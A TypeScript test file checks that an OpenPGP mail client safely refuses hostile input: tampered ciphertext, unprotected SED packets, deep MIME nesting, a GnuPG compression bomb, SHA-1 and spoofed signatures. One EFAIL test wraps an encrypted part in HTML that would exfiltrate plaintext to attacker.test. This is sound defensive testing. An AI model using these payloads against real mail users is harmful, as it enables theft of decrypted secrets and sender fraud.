import {
  enums,
  encryptSessionKey,
  LiteralDataPacket,
  PacketList,
  readKey,
  SymmetricallyEncryptedDataPacket,
  armor,
  type PublicKey,
} from 'openpgp'
import { randomBytes } from 'node:crypto'
import { mkdtemp, readdir, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Worker } from 'node:worker_threads'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { importKeyFile } from '../../main/core/keys/key-store.ts'
import type { StoredKey } from '../../main/core/keys/stored-key.ts'
import { keyTechnologies } from '../../main/core/keys/technologies.ts'
import { composeMessageStream } from '../../main/core/message/compose.ts'
import { openMessage } from '../../main/core/message/open.ts'
import { messageTechnologies } from '../../main/core/message/technologies.ts'
import { entity, multipart } from '../../main/core/mime/build.ts'
import { memorySource } from '../../main/core/mime/byte-source.ts'
import { decodeBody, parseMime } from '../../main/core/mime/parse.ts'
import { armorMessage, dearmorMessage } from '../../main/core/openpgp/armor.ts'
import { openpgpMessageTechnology } from '../../main/core/openpgp/pgp-mime.ts'
import { GpgHome, hasGpg } from '../helpers/gpg.ts'
import { skipUnless } from '../helpers/needs.ts'
import { compose, generatePair, tempVault } from '../helpers/openpgp-fixtures.ts'

const now = new Date()
/** The worker entry from source (Node 24 runs .ts); the CLI test covers the built one. */
const sourceWorker = () => new Worker(new URL('../../main/workers/openpgp-worker.ts', import.meta.url))
const secret = 'Steuer-ID 12 345 678 901'
let advisor: StoredKey
let client: StoredKey
let clientPublic: StoredKey
beforeAll(async () => ({ advisor, client, clientPublic } = await generatePair(now)))

/** The client's view: own secret key, the advisor's public key. */
const clientKeys = () => [client, { ...advisor, hasSecret: false }]
const open = (bytes: Uint8Array, keys: readonly StoredKey[] = clientKeys()) =>
  openMessage(bytes, messageTechnologies, { keys, now })
const mail = (headers: string, body: Uint8Array | string) =>
  Buffer.concat([Buffer.from(headers.replace(/\n/g, '\r\n')), typeof body === 'string' ? Buffer.from(body) : body])

function pgpMime(armored: string): Buffer {
  return mail(
    'From: anna@kanzlei.test\nTo: max@mandant.test\nSubject: ...\nMIME-Version: 1.0\n',
    multipart('encrypted', { protocol: 'application/pgp-encrypted' }, [
      entity([['Content-Type', 'application/pgp-encrypted']], 'Version: 1\r\n'),
      entity([['Content-Type', 'application/octet-stream']], armored.replace(/\r?\n/g, '\r\n')),
    ]),
  )
}

async function encryptedArmor(): Promise<string> {
  const message = await compose({}, [advisor, clientPublic], now)
  return Buffer.from(decodeBody(parseMime(message.bytes).children[1]!)).toString()
}

describe('bad OpenPGP input gives a clear outcome, never plaintext, never a crash', () => {
  it('tampered ciphertext: decryption fails with an integrity reason and shows nothing', async () => {
    const armored = await encryptedArmor()
    const { unarmor } = await import('openpgp')
    const { data } = await unarmor(armored)
    const bytes = new Uint8Array(data as Uint8Array)
    bytes[Math.floor(bytes.length * 0.8)]! ^= 0x40
    const { document } = await open(pgpMime(armor(enums.armor.message, bytes, undefined, undefined, undefined, true)))
    expect(document.security.encryption.state).toBe('failed')
    expect(['ENCRYPTION_ALTERED', 'ENCRYPTION_NO_INTEGRITY', 'ENCRYPTION_UNREADABLE']).toContain(
      document.security.encryption.code,
    )
    expect(document.text).toBe('')
    expect(document.attachments).toEqual([])
    expect(JSON.stringify(document)).not.toContain(secret)
  })

  it('tampered ciphertext of a multi-megabyte message: nothing of the plaintext is returned, even the part before the change', async () => {
    const big = new Uint8Array(randomBytes(3 * 1024 * 1024))
    const message = await compose(
      { attachments: [{ fileName: 'gross.bin', contentType: 'application/octet-stream', bytes: big }] },
      [advisor, clientPublic],
      now,
    )
    const { unarmor } = await import('openpgp')
    const { data } = await unarmor(Buffer.from(decodeBody(parseMime(message.bytes).children[1]!)).toString())
    const bytes = new Uint8Array(data as Uint8Array)
    bytes[bytes.length - 100]! ^= 0x01
    const { document, attachmentBytes } = await open(
      pgpMime(armor(enums.armor.message, bytes, undefined, undefined, undefined, true)),
    )
    expect(document.security.encryption.state).toBe('failed')
    expect(document.text).toBe('')
    expect(attachmentBytes).toEqual([])
  })

  it('truncated armor: a truncated message fails to decrypt, a truncated key is refused on import', async () => {
    const armored = await encryptedArmor()
    const { document } = await open(pgpMime(armored.slice(0, Math.floor(armored.length / 2))))
    expect(document.security.encryption.state).toBe('failed')
    expect(document.text).toBe('')
    const { vault, close } = await tempVault()
    try {
      const key = String(clientPublic.material.armored)
      const file = {
        bytes: new TextEncoder().encode(key.slice(0, key.length / 2)),
        fileName: 'max.asc',
        path: '/in/max.asc',
      }
      const error = await importKeyFile(vault, keyTechnologies, file, { passphrase: null, now }).catch(
        (e: { code: string }) => e,
      )
      expect(error).toMatchObject({ code: 'OPENPGP_KEY_UNREADABLE' })
      expect(vault.info().keyCount).toBe(0)
    } finally {
      await close()
    }
  })

  it('wrong passphrase on a protected secret key: refused, vault unchanged', async () => {
    const { encryptKey, readPrivateKey } = await import('openpgp')
    const locked = await encryptKey({
      privateKey: await readPrivateKey({ armoredKey: String(client.material.armored) }),
      passphrase: 'richtig',
    })
    const { vault, close } = await tempVault()
    try {
      const file = {
        bytes: new TextEncoder().encode(locked.armor()),
        fileName: 'max-secret.asc',
        path: '/in/max-secret.asc',
      }
      const attempt = (pw: string) =>
        importKeyFile(vault, keyTechnologies, file, { passphrase: new TextEncoder().encode(pw), now }).catch(
          (e: { code: string }) => e,
        )
      expect(await attempt('falsch')).toMatchObject({ code: 'KEY_PASSPHRASE_WRONG' })
      expect(vault.info()).toMatchObject({ keyCount: 0, generation: 1 })
      expect(await attempt('richtig')).toEqual([
        expect.objectContaining({ hasSecret: true, fingerprint: client.fingerprint }),
      ])
    } finally {
      await close()
    }
  })

  it('a message for another recipient: failed with "not encrypted to any key in your vault"', async () => {
    const armored = await encryptedArmor()
    const stranger = (await generatePair(now)).client
    const { document } = await open(pgpMime(armored), [stranger])
    expect(document.security.encryption).toMatchObject({ state: 'failed', code: 'ENCRYPTION_NOT_FOR_YOU' })
  })

  it('a message without integrity protection (SED, no MDC) is refused (EFAIL)', async () => {
    const publicKey = (await readKey({ armoredKey: String(clientPublic.material.armored) })) as PublicKey
    const sessionKey = new Uint8Array(randomBytes(32))
    const pkesk = await encryptSessionKey({
      data: sessionKey,
      algorithm: 'aes256',
      encryptionKeys: publicKey,
      format: 'binary',
    })
    // The legacy packet API is not in openpgp.js's public typings; this builds what old PGP 2.x wrote.
    const literal = new LiteralDataPacket() as unknown as { setBytes(bytes: Uint8Array, format: number): void }
    literal.setBytes(new TextEncoder().encode(`Content-Type: text/plain\r\n\r\n${secret}\r\n`), enums.literal.binary)
    const sed = new SymmetricallyEncryptedDataPacket() as unknown as {
      packets: PacketList<never>
      encrypt(algorithm: number, key: Uint8Array): Promise<void>
    }
    sed.packets = new PacketList()
    sed.packets.push(literal as never)
    await sed.encrypt(enums.symmetric.aes256, sessionKey)
    const packets = new PacketList()
    packets.push(sed as never)
    const bytes = new Uint8Array(Buffer.concat([pkesk as Uint8Array, packets.write() as Uint8Array]))
    const { document } = await open(pgpMime(armor(enums.armor.message, bytes, undefined, undefined, undefined, true)))
    expect(document.security.encryption).toMatchObject({ state: 'failed', code: 'ENCRYPTION_NO_INTEGRITY' })
    expect(JSON.stringify(document)).not.toContain(secret)
  })

  it('1000-deep MIME nesting is refused with a clear error, quickly', async () => {
    let body = 'Content-Type: text/plain\r\n\r\nbottom\r\n'
    for (let i = 0; i < 1000; i++)
      body = `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n${body}\r\n--b${i}--\r\n`
    const started = Date.now()
    const error = await open(mail('From: a@b.test\n', body)).catch((e: { code: string }) => e)
    expect(error).toMatchObject({ code: 'MIME_TOO_DEEP' })
    expect(Date.now() - started).toBeLessThan(10_000)
  })

  it('garbage bytes open as an unprotected message; garbage armor is a failed decryption', async () => {
    const garbage = new Uint8Array(randomBytes(64 * 1024))
    const { document } = await open(garbage)
    expect(document.security.encryption.state).toBe('none')
    expect(document.security.signature.state).toBe('none')
    const armoredGarbage = `-----BEGIN PGP MESSAGE-----\r\n\r\n${randomBytes(3000).toString('base64')}\r\n-----END PGP MESSAGE-----\r\n`
    expect((await open(pgpMime(armoredGarbage))).document.security.encryption.state).toBe('failed')
    const signedGarbage = mail(
      'From: anna@kanzlei.test\n',
      multipart('signed', { protocol: 'application/pgp-signature', micalg: 'pgp-sha256' }, [
        entity([['Content-Type', 'text/plain']], 'hi\r\n'),
        entity([['Content-Type', 'application/pgp-signature']], armoredGarbage),
      ]),
    )
    expect((await open(signedGarbage)).document.security.signature.state).toBe('invalid')
    const { vault, close } = await tempVault()
    try {
      const error = await importKeyFile(
        vault,
        keyTechnologies,
        { bytes: garbage, fileName: 'key.gpg', path: '/in/key.gpg' },
        { passphrase: null, now },
      ).catch((e: { code: string }) => e)
      expect(['OPENPGP_KEY_UNREADABLE', 'KEY_FORMAT_UNKNOWN']).toContain((error as { code: string }).code)
    } finally {
      await close()
    }
  })

  it('EFAIL direct exfiltration shape: an encrypted part between attacker HTML parts is not decrypted or joined', async () => {
    const armored = await encryptedArmor()
    const efail = mail(
      'From: anna@kanzlei.test\nTo: max@mandant.test\nMIME-Version: 1.0\n',
      multipart('mixed', {}, [
        entity([['Content-Type', 'text/html']], '<img src="http://attacker.test/'),
        entity(
          [['Content-Type', 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="x"']],
          `--x\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--x\r\nContent-Type: application/octet-stream\r\n\r\n${armored}\r\n--x--\r\n`,
        ),
        entity([['Content-Type', 'text/html']], '">'),
      ]),
    )
    const { document } = await open(efail)
    expect(document.security.encryption.state).toBe('none')
    expect(document.security.encryption.code).toBeNull()
    expect(document.security.warnings.map((w) => w.code)).toEqual(['partly-protected', 'encrypted-part-not-opened'])
    expect(JSON.stringify(document)).not.toContain(secret)
  })

  it('signature spoofing: a signed part inside an unsigned wrapper, or a signer other than From, is never "valid"', async () => {
    const signed = await compose({ encrypt: 'none', subject: 'Echt' }, [advisor, clientPublic], now)
    const signedEntity = Buffer.from(signed.bytes).subarray(
      Buffer.from(signed.bytes).indexOf('Content-Type: multipart/signed'),
    )
    const wrapped = mail(
      'From: anna@kanzlei.test\nTo: max@mandant.test\nMIME-Version: 1.0\n',
      multipart('mixed', {}, [
        entity([['Content-Type', 'text/plain']], 'Bitte überweisen Sie an IBAN DE00 …\r\n'),
        signedEntity,
      ]),
    )
    const outer = await open(wrapped)
    expect(outer.document.security.signature.state).toBe('none')
    expect(outer.document.security.signature.code).toBeNull()
    expect(outer.document.security.warnings.map((w) => w.code)).toContain('partly-protected')
    // Signed by Anna's key, but the (unprotected) From names someone else.
    const content = entity([['Content-Type', 'text/plain; charset=utf-8']], 'Bitte sofort zahlen.\r\n')
    const forged = mail(
      'From: chef@kanzlei.test\nTo: max@mandant.test\nMIME-Version: 1.0\n',
      await openpgpMessageTechnology.sign(content, advisor, now),
    )
    const mismatch = await open(forged)
    expect(mismatch.document.security.signature).toMatchObject({ state: 'mismatch', signer: 'anna@kanzlei.test' })
  })
})

describe.skipIf(skipUnless('GnuPG (gpg)', hasGpg, 'apt-get install gnupg'))('bad OpenPGP input made by GnuPG', () => {
  let gpg: GpgHome
  beforeAll(() => {
    gpg = new GpgHome()
  })
  afterAll(() => gpg?.close())

  it('a compression bomb (300 MiB of zeros, ZLIB) is refused, not expanded without bound — in memory and streamed through the worker', async () => {
    gpg.ok(['--import'], String(clientPublic.material.armored))
    const zeros = Buffer.alloc(300 * 1024 * 1024)
    const bomb = gpg.ok(
      [
        '--armor',
        '--trust-model',
        'always',
        '--compress-algo',
        'zlib',
        '-z',
        '9',
        '--encrypt',
        '-r',
        client.fingerprint,
      ],
      zeros,
    ).stdout
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024)
    const { document } = await open(pgpMime(bomb.toString()))
    expect(document.security.encryption).toMatchObject({ state: 'failed', code: 'ENCRYPTION_TOO_LARGE' })
    const temp = await mkdtemp(join(tmpdir(), 'sp-bomb-'))
    try {
      const streamed = await openMessage(pgpMime(bomb.toString()), messageTechnologies, {
        keys: clientKeys(),
        now,
        streaming: { tempDir: temp, fromBytes: 0, startWorker: sourceWorker },
      })
      expect(streamed.document.security.encryption).toMatchObject({ state: 'failed', code: 'ENCRYPTION_TOO_LARGE' })
      expect(await readdir(temp)).toEqual([])
    } finally {
      await rm(temp, { recursive: true, force: true })
    }
  })

  it('a SHA-1 signature is invalid even when the key is known and matches From', async () => {
    // RSA: for EdDSA openpgp.js already rejects SHA-1 as too weak; RSA shows the SHA-1 rule itself.
    const fingerprint = gpg.generate('Sven Sha <sven@mandant.test>', 'pw', 'rsa2048', 'rsa2048')
    const keys = [client, ...(await importInto(gpg.ok(['--armor', '--export', fingerprint]).stdout))]
    const content = entity([['Content-Type', 'text/plain; charset=utf-8']], 'Zahlung freigegeben.\r\n')
    const signature = gpg.ok(
      ['--armor', '--detach-sign', '--digest-algo', 'SHA1', '--passphrase', 'pw', '-u', fingerprint],
      content,
    ).stdout
    const message = mail(
      'From: sven@mandant.test\nMIME-Version: 1.0\n',
      multipart('signed', { protocol: 'application/pgp-signature', micalg: 'pgp-sha1' }, [
        content,
        entity([['Content-Type', 'application/pgp-signature']], signature.toString()),
      ]),
    )
    const { document } = await openMessage(message, messageTechnologies, { keys, now: new Date() })
    expect(document.security.signature).toMatchObject({ state: 'invalid', code: 'SIGNATURE_SHA1' })
  })

  it('a damaged inline signature: not signed, code null (CLI.md), and the damage is the signature-damaged warning', async () => {
    const fingerprint = gpg.generate('Dana Damage <dana@mandant.test>', 'pw')
    const keys = [client, ...(await importInto(gpg.ok(['--armor', '--export', fingerprint]).stdout))]
    const signed = gpg
      .ok(['--clearsign', '--passphrase', 'pw', '-u', fingerprint], Buffer.from('Bitte zahlen.\n'))
      .stdout.toString()
    const lines = signed.split('\n')
    const start = lines.indexOf('-----BEGIN PGP SIGNATURE-----')
    lines[start + 2] = '!!' + lines[start + 2]!.slice(2)
    const message = mail('From: dana@mandant.test\nMIME-Version: 1.0\nContent-Type: text/plain\n\n', lines.join('\r\n'))
    const { document } = await openMessage(message, messageTechnologies, { keys, now: new Date() })
    expect(document.security.signature).toMatchObject({ state: 'none', code: null, reason: '' })
    expect(document.security.warnings.map((w) => w.code)).toEqual(['signature-damaged'])
  })
})

async function importInto(armored: Uint8Array): Promise<StoredKey[]> {
  const { vault, close } = await tempVault()
  try {
    return await importKeyFile(
      vault,
      keyTechnologies,
      { bytes: armored, fileName: 'k.asc', path: '/in/k.asc' },
      { passphrase: null, now: new Date() },
    )
  } finally {
    await close()
  }
}

describe('the large-message path: streamed in a worker thread into an encrypted spool', () => {
  let temp: string
  beforeEach(async () => {
    temp = await mkdtemp(join(tmpdir(), 'sp-stream-'))
  })
  afterEach(async () => {
    await rm(temp, { recursive: true, force: true })
  })
  const streamed = (
    bytes: Uint8Array,
    startWorker?: () => Worker,
    onProgress?: (p: { done: number; total: number }) => void,
  ) =>
    openMessage(bytes, messageTechnologies, {
      keys: clientKeys(),
      now,
      streaming: {
        tempDir: temp,
        fromBytes: 0,
        ...(startWorker ? { startWorker } : {}),
        ...(onProgress ? { onProgress } : {}),
      },
    })

  it('reaches the in-memory verdicts, in the worker and on an in-thread channel, reports progress, and deletes its spool on dispose', async () => {
    const message = pgpMime(await encryptedArmor())
    const expected = (await open(message)).document
    for (const startWorker of [sourceWorker, undefined]) {
      const progress: number[] = []
      const result = await streamed(message, startWorker, (p) => progress.push(p.done / p.total))
      expect(result.document).toEqual(expected)
      expect(result.document.security.signature.state).toBe('valid')
      expect(progress.at(-1)).toBeCloseTo(1, 1)
      expect(await readdir(temp)).toHaveLength(1)
      result.dispose()
      expect(await readdir(temp)).toEqual([])
    }
  })

  it('tampered ciphertext (armor checksum intact): failed, nothing shown, no spool left', async () => {
    const binary = dearmorMessage(new TextEncoder().encode(await encryptedArmor()))!
    binary[Math.floor(binary.length / 2)]! ^= 0x01
    const tampered = pgpMime(Buffer.from(armorMessage(binary)).toString('latin1'))
    for (const startWorker of [sourceWorker, undefined]) {
      const result = await streamed(tampered, startWorker)
      expect(result.document.security.encryption).toMatchObject({ state: 'failed', code: 'ENCRYPTION_ALTERED' })
      expect(result.document.text).toBe('')
      expect(result.document.attachments).toEqual([])
      expect(await readdir(temp)).toEqual([])
    }
  })

  it('compose streams a large attachment into a message the in-memory path opens; a writer that stops early stops the worker', async () => {
    const attachment = new Uint8Array(randomBytes(3 * 1024 * 1024 + 17))
    const input = {
      from: 'anna@kanzlei.test',
      to: ['max@mandant.test'],
      cc: [],
      subject: 'Groß',
      body: 'Anbei.',
      attachments: [
        { fileName: 'gross.bin', contentType: 'application/octet-stream', bytes: memorySource(attachment) },
      ],
      encrypt: 'openpgp' as const,
      sign: true,
    }
    const context = { keys: [advisor, clientPublic], now, technologies: messageTechnologies }
    for (const startWorker of [sourceWorker, undefined]) {
      const streaming = { tempDir: temp, ...(startWorker ? { startWorker } : {}) }
      const composed = await composeMessageStream(input, { ...context, streaming })
      const chunks: Uint8Array[] = []
      for await (const chunk of composed.chunks) chunks.push(chunk)
      const opened = await open(new Uint8Array(Buffer.concat(chunks)))
      expect(opened.document.security.signature.state).toBe('valid')
      expect(Buffer.compare(Buffer.from(opened.attachmentBytes[0]!), Buffer.from(attachment))).toBe(0)
      // A writer that fails after the first chunks (a full disk): the iteration ends, nothing hangs.
      const abandoned = await composeMessageStream(input, { ...context, streaming })
      let seen = 0
      for await (const chunk of abandoned.chunks) {
        seen += chunk.length
        if (seen > 1024 * 1024) break
      }
      expect(seen).toBeGreaterThan(1024 * 1024)
    }
  })
})
